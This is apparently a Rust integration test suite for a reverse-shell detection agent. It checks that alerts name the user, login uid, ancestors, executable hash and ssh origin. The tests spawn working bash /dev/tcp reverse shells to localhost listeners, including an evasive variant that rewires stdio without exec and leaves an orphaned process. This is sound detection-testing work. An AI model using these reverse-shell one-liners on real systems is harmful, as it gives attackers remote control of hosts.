//! What a responder reads in an alert without logging in to the host: who the shell runs as by
//! name (resolved where the process lives), who logged in, the executable's digest, the parent
//! and every ancestor with their command lines, and the working directory.

use crate::agent::Agent;
use crate::shells::is_incident_for;
use crate::util::{KillOnDrop, ScratchDir, prerequisites, prove_round_trip};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::time::Duration;

/// The parent's command line: python3 running a launcher with a distinctive mark.
const LAUNCHER: &str = r#"
import os, subprocess, sys
# The audit login uid a login would have set: uid 1 (daemon) logged in, whatever runs after.
with open('/proc/self/loginuid', 'w') as f:
    f.write('1')
shell = subprocess.Popen(sys.argv[3:])
with open(sys.argv[2] + '.new', 'w') as f:
    f.write(str(shell.pid))
os.rename(sys.argv[2] + '.new', sys.argv[2])
shell.wait()
"#;

/// A reverse shell launched by a python parent (cwd `dir`, argv marked with `mark`) through
/// `prefix` (a command that execs the rest), connected to `listener`; proven to work by a
/// command round trip. Returns the parent, the connection and the shell's pid.
fn launch(
    dir: &std::path::Path,
    mark: &str,
    prefix: &[&str],
    listener: &TcpListener,
) -> (KillOnDrop, TcpStream, i32) {
    let port = listener.local_addr().unwrap().port();
    let shell = format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let pid_file = dir.join("shell.pid");
    // No pipe to this test: the test holds the far end of the shell's connection, and a
    // launcher whose stdio led to it would be a relay of its own (which the rules say).
    let parent = KillOnDrop::new(
        Command::new("python3")
            .args(["-c", LAUNCHER, mark])
            .arg(&pid_file)
            .args(prefix)
            .args(["bash", "-c", &shell])
            .current_dir(dir)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let (mut peer, _) = listener.accept().unwrap();
    let shell_pid = pid_in(&pid_file, "the launcher names the shell's pid");
    prove_round_trip(&mut peer);
    (parent, peer, shell_pid)
}

/// The pid written to `path`, once it is there whole.
fn pid_in(path: &std::path::Path, what: &str) -> i32 {
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        if let Ok(Ok(pid)) = std::fs::read_to_string(path).map(|t| t.trim().parse()) {
            return pid;
        }
        assert!(std::time::Instant::now() < deadline, "{what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn sha256sum(path: &str) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    String::from_utf8(out.stdout).unwrap().split_whitespace().next().unwrap().to_string()
}

#[test]
fn an_alert_says_who_from_where_launched_by_what() {
    if !prerequisites(&["python3", "bash", "setpriv", "sha256sum"]) {
        return;
    }
    let dir = ScratchDir::new("context-cwd");
    std::fs::set_permissions(&dir.path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    let agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mark = format!("--launched-by=context-test-{}", std::process::id());
    let as_nobody = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"];
    let (mut parent, _peer, shell) = launch(&dir.path, &mark, &as_nobody, &listener);
    let alert = agent.wait_for("incident_opened", |e| {
        is_incident_for(e, port)
            && e["event"]["action"] == "incident_opened"
            && e["process"]["pid"] == shell
    });
    let process = &alert["process"];
    assert_eq!(process["pid"], shell, "{alert:#}");
    assert_eq!(process["user"], serde_json::json!({"id": "65534", "name": "nobody"}));
    assert_eq!(process["group"]["name"], "nogroup");
    assert_eq!(process["working_directory"], dir.path.to_str().unwrap());
    let exe = std::fs::read_link(format!("/proc/{shell}/exe")).unwrap();
    assert_eq!(process["hash"]["sha256"], sha256sum(exe.to_str().unwrap()));
    let audit = &alert["sockwatch"]["process"]["audit"];
    assert_eq!(audit["login_uid"], 1, "{alert:#}");
    assert_eq!(audit["login_user"], "daemon");
    assert!(audit["session_id"].as_u64().is_some());
    // The parent in full: its command line, its user, its digest.
    let launcher = &process["parent"];
    assert_eq!(launcher["pid"], parent.child().id());
    assert!(launcher["command_line"].as_str().unwrap().contains(&mark), "{launcher:#}");
    assert_eq!(launcher["user"]["name"], "root");
    let python = std::fs::read_link(format!("/proc/{}/exe", parent.child().id())).unwrap();
    assert_eq!(launcher["hash"]["sha256"], sha256sum(python.to_str().unwrap()));
    // Every ancestor up to pid 1: the launcher, this test, …, init.
    let ancestors = alert["sockwatch"]["process"]["ancestors"].as_array().unwrap();
    let pids: Vec<i64> = ancestors.iter().map(|a| a["pid"].as_i64().unwrap()).collect();
    assert_eq!(pids[0], i64::from(parent.child().id()));
    assert!(pids.contains(&i64::from(std::process::id())), "{pids:?}");
    assert_eq!(pids.last(), Some(&1), "{ancestors:#?}");
    assert_eq!(alert["sockwatch"]["process"]["ancestors_total"], pids.len());
    assert!(ancestors.iter().all(|a| a["command_line"].is_string() && a["start"].is_string()));
    assert!(!alert["rule"]["description"][0].as_str().unwrap().is_empty());
    let (_, events, _) = agent.stop();
    let line = events.iter().find(|e| e["event"]["id"] == alert["event"]["id"]).unwrap();
    assert!(serde_json::to_vec(line).unwrap().len() < 48 * 1024);
}

/// A uid only the process's own passwd names (a container's user) is named from that file; the
/// host's passwd has no entry for it.
#[test]
fn a_container_user_is_named_from_the_containers_own_passwd() {
    if !prerequisites(&["python3", "bash", "setpriv", "unshare", "mount", "getent"]) {
        return;
    }
    const UID: &str = "47114";
    let host_entry = Command::new("getent").args(["passwd", UID]).output().unwrap();
    assert!(host_entry.stdout.is_empty(), "uid {UID} must be unknown to the host");
    let dir = ScratchDir::new("context-passwd");
    let passwd = dir.path.join("passwd");
    let own = std::fs::read_to_string("/etc/passwd").unwrap();
    std::fs::write(&passwd, format!("{own}app-svc:x:{UID}:{UID}::/srv:/bin/sh\n")).unwrap();
    let agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // Its own mount namespace, where /etc/passwd is the container's file.
    let mount = format!("mount --bind {} /etc/passwd && exec \"$@\"", passwd.display());
    let prefix = [
        "unshare",
        "--mount",
        "--propagation",
        "private",
        "sh",
        "-c",
        &mount,
        "sh",
        "setpriv",
        &format!("--reuid={UID}"),
        &format!("--regid={UID}"),
        "--clear-groups",
    ];
    let (_parent, _peer, shell) = launch(&dir.path, "--container", &prefix, &listener);
    let alert = agent.wait_for("incident_opened", |e| {
        is_incident_for(e, port)
            && e["event"]["action"] == "incident_opened"
            && e["process"]["pid"] == shell
    });
    assert_eq!(alert["process"]["user"], serde_json::json!({"id": UID, "name": "app-svc"}));
    // The launcher lives in the host's mount namespace: its root is named from the host's file.
    assert_eq!(alert["process"]["parent"]["user"]["name"], "root");
    agent.stop();
}

/// A reverse shell run over ssh (what a stolen key or a compromised CI runner looks like): the
/// alert names the login it came through, the address and port the session came from, as sshd
/// itself tells the session (`SSH_CONNECTION`).
#[test]
fn a_shell_run_from_an_ssh_login_names_where_the_login_came_from() {
    if !prerequisites(&["sshd", "ssh", "ssh-keygen", "bash"]) {
        return;
    }
    let sshd = crate::sshd::Sshd::start();
    let agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let told = sshd.path("ssh_connection");
    let remote = format!(
        "echo \\$SSH_CONNECTION > {}; exec bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'",
        told.display()
    );
    let _client = KillOnDrop::new(
        Command::new("sh")
            .args(["-c", &format!("exec {} root@127.0.0.1 \"{remote}\"", sshd.ssh())])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let (mut peer, _) = listener.accept().unwrap();
    prove_round_trip(&mut peer);
    let connection = std::fs::read_to_string(&told).unwrap();
    let fields: Vec<&str> = connection.split_whitespace().collect();
    let (client_port, server_port): (u64, u64) =
        (fields[1].parse().unwrap(), fields[3].parse().unwrap());
    assert_eq!(server_port, u64::from(sshd.port));
    let alert = agent.wait_for("incident_opened", |e| {
        is_incident_for(e, port) && e["event"]["action"] == "incident_opened"
    });
    let origin = &alert["sockwatch"]["process"]["login_origin"];
    assert_eq!(origin["remote"]["ip"], "127.0.0.1", "{alert:#}");
    assert_eq!(origin["remote"]["port"], client_port, "{origin:#}");
    assert_eq!(origin["local"]["port"], server_port, "{origin:#}");
    let sshd_names: Vec<&str> = alert["sockwatch"]["process"]["ancestors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["pid"] == origin["pid"])
        .filter_map(|a| a["executable"].as_str())
        .collect();
    assert!(sshd_names.iter().any(|e| e.ends_with("sshd") || e.ends_with("sshd-session")));
    agent.stop();
}

/// A shell found through a pipe rather than as the process that executed: it connects and
/// moves the connection onto its stdio without executing anything (bash's `exec 0<&3`), and
/// what executes next is a process it left behind, orphaned, whose parents no longer lead to
/// the shell. The look at that exec reaches the shell as the other holder of a pipe the last
/// scan knew; the alert still names the ssh login the shell came from, as a scan would.
#[test]
fn a_shell_reached_through_a_pipe_still_names_its_ssh_login() {
    use std::io::{BufRead, Write};
    if !prerequisites(&["sshd", "ssh", "ssh-keygen", "bash", "mkfifo", "sleep"]) {
        return;
    }
    let sshd = crate::sshd::Sshd::start();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let path = |name: &str| sshd.path(name).display().to_string();
    let made = Command::new("mkfifo").arg(path("wait")).status().unwrap();
    assert!(made.success(), "mkfifo");
    let mut client = KillOnDrop::new(
        Command::new("sh")
            .args(["-c", &format!("exec {} root@127.0.0.1 'exec bash'", sshd.ssh())])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let mut commands = client.child().stdin.take().unwrap();
    let mut answers = std::io::BufReader::new(client.child().stdout.take().unwrap());
    // The shell and a pipe from a child of its (fd 5), in place before the agent's first scan.
    let setup = format!(
        "echo $SSH_CONNECTION > {}; exec 5< <(exec sleep 600 </dev/null 2>/dev/null); \
         echo $! > {}; echo ready",
        path("ssh_connection"),
        path("sleeper.pid")
    );
    writeln!(commands, "{setup}").unwrap();
    let mut ready = String::new();
    answers.read_line(&mut ready).unwrap();
    assert_eq!(ready.trim(), "ready");
    // No scan after the first one while the test runs, not even one brought forward by execs
    // the agent could not look at: a look, not a scan, sees the shell. (With exec checks off,
    // scans are all there is.)
    let checks_off = std::env::var("SOCKWATCH_TEST_EXEC_CHECKS").as_deref() == Ok("off");
    let config = sshd.path("sockwatch.toml");
    std::fs::write(&config, "[agent]\nexec_scan_min_gap = \"120s\"\n").unwrap();
    let interval = if checks_off { "2s" } else { "120s" };
    let agent = Agent::start(&["--config", config.to_str().unwrap(), "--interval", interval]);
    // One line, read whole before it runs. The inner subshell outlives the outer one, waits a
    // second on a FIFO (a builtin: no exec while its parents still lead to the shell), then
    // executes, holding the connection and the pipe it inherited.
    let attack = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port} 0<&3 1>&3 2>&3; \
         ( ( read -t 1 <> {}; echo $BASHPID > {}; exec sleep 60 ) & )",
        path("wait"),
        path("orphan.pid")
    );
    writeln!(commands, "{attack}").unwrap();
    let (mut peer, _) = listener.accept().unwrap();
    prove_round_trip(&mut peer);
    let alert = agent.wait_for("incident_opened", |e| {
        is_incident_for(e, port) && e["event"]["action"] == "incident_opened"
    });
    for pid_file in ["sleeper.pid", "orphan.pid"] {
        let pid = pid_in(&sshd.path(pid_file), &format!("{pid_file} was not written"));
        let pid = rustix::process::Pid::from_raw(pid).unwrap();
        let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
    }
    if !checks_off {
        let opened_by = &alert["sockwatch"]["incident"]["opened_by"];
        assert_eq!(opened_by, "exec_check", "a scan came first: the look was not tested");
    }
    assert_eq!(alert["process"]["name"], "bash", "{alert:#}");
    let connection = std::fs::read_to_string(sshd.path("ssh_connection")).unwrap();
    let client_port: u64 = connection.split_whitespace().nth(1).unwrap().parse().unwrap();
    let origin = &alert["sockwatch"]["process"]["login_origin"];
    assert_eq!(origin["remote"]["port"], client_port, "{alert:#}");
    assert_eq!(origin["local"]["port"], u64::from(sshd.port), "{origin:#}");
    agent.stop();
}
